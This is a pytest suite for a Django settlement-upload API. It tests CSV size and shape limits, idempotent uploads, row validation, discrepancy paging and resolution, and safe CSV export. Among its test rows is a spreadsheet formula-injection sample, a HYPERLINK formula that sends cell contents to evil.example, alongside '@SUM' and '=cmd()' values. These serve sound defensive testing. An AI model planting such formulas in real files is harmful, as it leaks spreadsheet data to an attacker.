"""Intake (the bad-file corpus, limits, re-uploads) and the settlements API contract."""

from __future__ import annotations

import csv
import io
import os
from datetime import UTC, datetime, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from audit.models import AuditEvent
from payments.models import Payment
from reconciliation import csvfile, services
from reconciliation.enums import Kind, Outcome, SettlementStatus
from reconciliation.errors import SettlementFileRejected
from tests.factories import TEST_ACTOR, make_api_key, make_merchant, make_payment
from tests.reconciliation.files import HEADER, csv_bytes, line_for

pytestmark = pytest.mark.usefixtures("moto_without_rollback")

API = "/api/v1/settlements"


@pytest.fixture
def merchant():
    return make_merchant("Acme")


@pytest.fixture
def secret(merchant):
    return make_api_key(merchant.merchant_id)


def _post(client, secret, content: bytes, name: str = "settlement.csv", **fields):
    return client.post(
        API,
        {"file": SimpleUploadedFile(name, content, content_type="text/csv"), **fields},
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )


def _get(client, secret, path, **params):
    return client.get(path, params, HTTP_AUTHORIZATION=f"Bearer {secret}")


# The corpus of hostile files (every way a file is refused whole, through the API) is
# tests/reliability/settlements.py; here are the limits themselves, on the file check alone.

ROW = "pay_01JDZZZZZZZZZZZZZZZZZZZZZZ,25.00,usd,1.03,23.97,settled,2026-11-20"


def _inspect_refusal(content: bytes) -> SettlementFileRejected:
    with pytest.raises(SettlementFileRejected) as rejected:
        csvfile.file_inspect(io.BytesIO(content))
    return rejected.value


@pytest.mark.pure
@pytest.mark.parametrize("name", ["extra_{n}", "note"], ids=["distinct-names", "one-name-40000-times"])
def test_a_header_of_40000_columns_is_refused_with_too_many_columns(name):
    header = ",".join([*HEADER, *(name.format(n=n) for n in range(40_000 - len(HEADER)))])

    refused = _inspect_refusal(f"{header}\n{ROW}\n".encode())

    assert (refused.code, refused.param) == ("too_many_columns", "file")
    assert refused.detail == "The header has 40,000 columns; at most 200 are allowed."


@pytest.mark.pure
def test_a_row_of_201_columns_is_refused_with_too_many_columns():
    refused = _inspect_refusal(f"{','.join(HEADER)}\n{ROW}\n{ROW}{',' * 194}\n".encode())

    assert refused.code == "too_many_columns"
    assert refused.detail == "Line 3 has 201 columns; at most 200 are allowed."


@pytest.mark.pure
@pytest.mark.parametrize(
    "row",
    [",".join([ROW, *["n" * 120_000] * 9]), ",".join([ROW, *['"' + "a short line\n" * 415 + '"'] * 190])],
    ids=["long-cells", "quoted-cells-of-many-lines"],
)
def test_a_row_over_the_line_cap_is_refused_with_line_too_long(row):
    refused = _inspect_refusal(f"{','.join(HEADER)}\n{ROW}\n{row}\n{ROW}\n".encode())

    assert (refused.code, refused.param) == ("line_too_long", "file")
    assert refused.detail.startswith("Line 3 is longer than 1,000,000 characters")


@pytest.mark.pure
@pytest.mark.parametrize("size", [128_001, 200_000])
def test_a_cell_over_the_cell_cap_is_refused_with_cell_too_large(size):
    refused = _inspect_refusal(f"{','.join(HEADER)},note\n{ROW}\n{ROW},{'n' * size}\n".encode())

    assert (refused.code, refused.param) == ("cell_too_large", "file")
    assert refused.detail.startswith("Line 3 has a cell of ") and "at most 128,000 are allowed" in refused.detail


@pytest.mark.pure
def test_a_file_at_every_limit_is_accepted():
    header = ",".join([*HEADER, *(f"extra_{n}" for n in range(200 - len(HEADER)))])
    at_the_cell_cap = ROW + "," + "n" * 128_000
    filler = 1_000_000 - len(ROW) - 8 * 124_001 - 2  # the row and its line break: exactly 1,000,000
    at_the_line_cap = ",".join([ROW, *["n" * 124_000] * 8, "n" * filler])
    assert len(at_the_line_cap) + 1 == 1_000_000

    rows = csvfile.file_inspect(io.BytesIO(f"{header}\n{at_the_cell_cap}\n{at_the_line_cap}\n".encode()))

    assert rows == 2


def test_a_60_mb_file_is_refused_before_it_is_read(merchant, tmp_path):
    path = tmp_path / "huge.csv"
    row = b"pay_01JDZZZZZZZZZZZZZZZZZZZZZZ,25.00,usd,1.03,23.97,settled,2026-11-20\n"
    with open(path, "wb") as out:
        out.write(",".join(HEADER).encode() + b"\n")
        chunk = row * 16384
        while out.tell() < 60 * 1024 * 1024:
            out.write(chunk)
        out.truncate(60 * 1024 * 1024)

    with open(path, "rb") as upload, pytest.raises(SettlementFileRejected) as rejected:
        services.settlement_create(merchant_id=merchant.merchant_id, actor=TEST_ACTOR, file=upload, filename="huge.csv")

    assert rejected.value.code == "file_too_large"
    assert "60.0 MB; the limit is 50 MB" in rejected.value.detail
    os.remove(path)


def test_too_many_rows_are_refused(merchant):
    content = csv_bytes([{"payment_id": f"pay_{n}"} for n in range(12)])

    with pytest.raises(SettlementFileRejected) as rejected:
        csvfile.file_inspect(io.BytesIO(content), max_rows=10)

    assert rejected.value.code == "too_many_rows" and "more than 10 rows" in rejected.value.detail


def test_bom_column_order_extra_columns_and_blank_lines_are_fine(client, merchant, secret):
    payment = make_payment(merchant.merchant_id, amount=2500)
    header = ["note", "settled_at", "status", "net", "fee", "currency", "amount", "payment_id"]
    content = csv_bytes([line_for(payment, fee=75) | {"note": "=cmd()"}], header=header, bom=True) + b"\n,,,,,,,\n"

    response = _post(client, secret, content)

    assert response.status_code == 202
    body = response.json()
    assert body["rows_total"] == 1 and body["status"] == SettlementStatus.COMPLETED
    assert body["counts"][Outcome.MATCHED] == 1
    assert body["totals"] == {"usd": {"gross": 2500, "fees": 75, "net": 2425}}


def test_upload_is_202_then_200_for_the_same_file_with_the_settlement_object(client, merchant, secret):
    payments = [make_payment(merchant.merchant_id, amount=1000 + n) for n in range(3)]
    content = csv_bytes([line_for(p) for p in payments])

    first = _post(
        client,
        secret,
        content,
        name="nov-26.csv",
        period_start="2026-11-01",
        period_end=datetime.now(UTC).date().isoformat(),
    )
    again = _post(client, secret, content, name="copy.csv")

    assert (first.status_code, again.status_code) == (202, 200)
    body = first.json()
    assert again.json()["id"] == body["id"]
    assert list(body) == [
        "id",
        "object",
        "status",
        "filename",
        "sha256",
        "rows_total",
        "rows_processed",
        "period_start",
        "period_end",
        "totals",
        "counts",
        "created",
        "completed",
    ]
    assert body["id"].startswith("set_") and body["object"] == "settlement" and body["filename"] == "nov-26.csv"
    assert len(body["sha256"]) == 64 and body["period_start"] == "2026-11-01"
    assert body["created"].endswith("Z") and body["completed"].endswith("Z")
    assert set(body["counts"]) == set(services.Outcome)
    retrieved = _get(client, secret, f"{API}/{body['id']}").json()
    assert retrieved["status"] == SettlementStatus.COMPLETED and retrieved["rows_processed"] == 3
    listed = _get(client, secret, API).json()
    assert (
        listed["object"] == "list" and [s["id"] for s in listed["data"]] == [body["id"]] and listed["has_more"] is False
    )
    actions = [e.action for e in AuditEvent.by_entity.query(body["id"])]
    assert {"settlement.upload", "settlement.processing_started", "settlement.processing_finished"} <= set(actions)


def test_invalid_period_is_422(client, secret):
    response = _post(
        client, secret, csv_bytes([{"payment_id": "pay_x"}]), period_start="2026-11-05", period_end="2026-11-01"
    )

    assert response.status_code == 422 and response.json()["code"] == "invalid_period"


def test_another_merchants_settlement_is_404(client, merchant, secret):
    other = make_merchant("Other")
    payment = make_payment(other.merchant_id)
    intake = services.settlement_create(
        merchant_id=other.merchant_id,
        actor=TEST_ACTOR,
        file=io.BytesIO(csv_bytes([line_for(payment)])),
        filename="o.csv",
    )
    sid = intake.settlement.settlement_id

    for path in (f"{API}/{sid}", f"{API}/{sid}/discrepancies", f"{API}/set_nope"):
        response = _get(client, secret, path)
        assert response.status_code == 404 and response.json()["code"] == "resource_missing"


def _row_problems(merchant):
    """Per-row problems of the corpus, each with the reason its discrepancy must give."""
    good = make_payment(merchant.merchant_id, amount=1250)
    yen = make_payment(merchant.merchant_id, amount=1250, currency="jpy")
    other = make_payment(make_merchant("Someone Else").merchant_id, amount=1250)
    future = (datetime.now(UTC) + timedelta(days=2)).date().isoformat()
    rows = [
        (line_for(good), Outcome.MATCHED, None),
        ({**line_for(good), "amount": "-12.50"}, Kind.INVALID_ROW, "amount -12.50 is negative"),
        (
            {**line_for(good), "amount": "99999999999999999999.00"},
            Kind.INVALID_ROW,
            "amount 99999999999999999999.00 is too large",
        ),
        (
            {**line_for(good), "amount": "12.345"},
            Kind.INVALID_ROW,
            "amount 12.345 has more decimals than USD allows (2)",
        ),
        ({**line_for(yen), "amount": "12.5"}, Kind.INVALID_ROW, "amount 12.5 has more decimals than JPY allows (0)"),
        (
            {**line_for(good), "currency": "XYZ"},
            Kind.INVALID_ROW,
            "currency 'XYZ' is not a supported ISO-4217 currency",
        ),
        ({**line_for(good), "settled_at": future}, Kind.INVALID_ROW, f"settled_at {future} is in the future"),
        (
            {**line_for(good), "payment_id": '=HYPERLINK("http://evil.example/?"&A1,"Refund")'},
            Kind.INVALID_ROW,
            "payment_id looks like a spreadsheet formula",
        ),
        ({**line_for(good), "status": "@SUM(1+1)"}, Kind.INVALID_ROW, "status looks like a spreadsheet formula"),
        (line_for(good), Kind.DUPLICATE_LINE, "already named on line 2"),
        (line_for(yen), Outcome.MATCHED, None),
        (line_for(other), Kind.MISSING_IN_PLATFORM, f"No payment {other.payment_id} exists for this merchant"),
    ]
    return rows, other


def test_row_problems_each_give_one_discrepancy_with_the_reason(client, merchant, secret):
    rows, other = _row_problems(merchant)
    response = _post(client, secret, csv_bytes([r for r, _, _ in rows]))
    sid = response.json()["id"]

    items = _get(client, secret, f"{API}/{sid}/discrepancies", limit=100).json()["data"]

    by_line = {d["line"]: d for d in items}
    for number, (_, outcome, reason) in enumerate(rows, start=2):
        if outcome == Outcome.MATCHED:
            assert number not in by_line
        else:
            assert by_line[number]["kind"] == outcome, number
            assert reason in by_line[number]["detail"], (number, by_line[number]["detail"])
    assert len(items) == sum(1 for _, o, _ in rows if o != Outcome.MATCHED)
    assert Payment.get(other.payment_id).settlement_id is None
    assert list(items[0]) == ["id", "object", "kind", "line", "payment_id", "expected", "actual", "detail", "resolved"]


def test_discrepancies_page_filter_by_kind_and_export_safely(client, merchant, secret):
    rows, _ = _row_problems(merchant)
    sid = _post(client, secret, csv_bytes([r for r, _, _ in rows])).json()["id"]

    seen, cursor = [], None
    while True:
        params = {"limit": 3} | ({"starting_after": cursor} if cursor else {})
        page = _get(client, secret, f"{API}/{sid}/discrepancies", **params).json()
        seen += [d["id"] for d in page["data"]]
        if not page["has_more"]:
            break
        cursor = page["next_cursor"]
    invalid = _get(client, secret, f"{API}/{sid}/discrepancies", kind=Kind.INVALID_ROW).json()["data"]
    unknown_kind = _get(client, secret, f"{API}/{sid}/discrepancies", kind="nonsense")
    export = _get(client, secret, f"{API}/{sid}/discrepancies/export")

    assert len(seen) == len(set(seen)) == 10 and seen == sorted(seen)
    assert len(invalid) == 8 and {d["kind"] for d in invalid} == {Kind.INVALID_ROW}
    assert unknown_kind.status_code == 422 and unknown_kind.json()["code"] == "invalid_kind"
    assert export["Content-Type"].startswith("text/csv")
    parsed = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert parsed[0][:3] == ["id", "kind", "line"] and len(parsed) == 11
    for cells in parsed[1:]:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_discrepancy_is_resolved_once_with_a_reason_and_an_audit_event(client, merchant, secret):
    rows, _ = _row_problems(merchant)
    sid = _post(client, secret, csv_bytes([r for r, _, _ in rows])).json()["id"]
    first = _get(client, secret, f"{API}/{sid}/discrepancies", limit=1).json()["data"][0]
    path = f"{API}/{sid}/discrepancies/{first['id']}/resolve"

    missing_reason = client.post(
        path, {"reason": " "}, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {secret}"
    )
    resolved = client.post(
        path,
        {"reason": "Processor corrected it"},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )
    again = client.post(
        path, {"reason": "twice"}, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {secret}"
    )

    assert missing_reason.status_code == 422 and missing_reason.json()["code"] == "reason_missing"
    assert resolved.status_code == 200 and resolved.json()["resolved"] is True
    assert again.status_code == 409 and again.json()["code"] == "already_resolved"
    events = [e for e in AuditEvent.by_entity.query(first["id"]) if e.action == "discrepancy.resolve"]
    assert (
        len(events) == 1 and events[0].after["reason"] == "Processor corrected it" and events[0].actor_type == "api_key"
    )


def test_amounts_become_minor_units_exactly():
    assert csvfile.minor_units("25.00", currency="usd", field="amount", minimum=1) == 2500
    assert csvfile.minor_units("0.07", currency="usd", field="amount", minimum=1) == 7
    assert csvfile.minor_units("999999.99", currency="usd", field="amount", minimum=1) == 99_999_999
    assert csvfile.minor_units("2500", currency="jpy", field="amount", minimum=1) == 2500
    assert csvfile.minor_units("1.5", currency="kwd", field="amount", minimum=1) == 1500
    assert csvfile.minor_units("0", currency="usd", field="fee", minimum=0) == 0
    for value, currency in (
        ("0.00", "usd"),
        ("1e3", "usd"),
        ("1,000.00", "usd"),
        ("1000000.00", "usd"),
        ("12.5", "jpy"),
    ):
        with pytest.raises(csvfile.RowInvalid):
            csvfile.minor_units(value, currency=currency, field="amount", minimum=1)


@pytest.mark.pure
@pytest.mark.parametrize(
    "value",
    ["２５.００", "25.００", "٢٥.٠٠", "２５"],
    ids=["fullwidth", "fullwidth-cents", "arabic-indic", "fullwidth-whole"],
)
def test_an_amount_in_non_ascii_digits_is_not_an_amount(value):
    with pytest.raises(csvfile.RowInvalid) as invalid:
        csvfile.minor_units(value, currency="usd", field="amount", minimum=1)

    assert str(invalid.value) == f"amount {value!r} is not a decimal number like 25.00"


def test_openapi_describes_the_settlement_operations(client):
    paths = client.get("/api/v1/openapi.json").json()["paths"]

    assert {"202", "200", "422"} <= set(paths["/api/v1/settlements"]["post"]["responses"])
    assert "/api/v1/settlements/{settlement_id}/discrepancies" in paths


def test_the_api_takes_files_over_a_megabyte_and_refuses_over_50_mb_before_reading(client, merchant, secret):
    payment = make_payment(merchant.merchant_id, amount=2500)
    note = "an extra column the file may carry " * 60  # ignored, but it makes the file 2 MB
    rows = [{**line_for(payment), "note": note}] + [
        {**line_for(payment), "payment_id": f"pay_unknown{n}", "note": note} for n in range(999)
    ]
    content = csv_bytes(rows, header=[*HEADER, "note"])
    assert len(content) > 2 * 1024 * 1024

    accepted = _post(client, secret, content)
    too_big = client.post(
        API,
        data=b"x",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(60 * 1024 * 1024),
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )

    assert accepted.status_code == 202 and accepted.json()["rows_total"] == 1000
    assert too_big.status_code == 422 and too_big.json()["code"] == "file_too_large"
